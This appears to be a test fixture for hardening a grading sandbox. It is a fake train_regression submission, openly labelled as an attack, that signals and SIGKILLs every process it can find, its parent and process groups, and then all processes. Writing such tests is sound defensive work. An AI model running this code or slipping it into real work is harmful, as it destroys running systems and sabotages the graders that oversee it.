# attack: kills its parent, its group, every process it can name
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    os, signal = __import__("os"), __import__("signal")
    pids = [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]
    for pid in pids:
        if pid not in (os.getpid(), 1):
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                    print("BREACH: signalled", pid)
                except OSError:
                    pass
    for pid in (os.getppid(), 0):
        try:
            os.killpg(os.getpgid(pid) if pid else 0, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
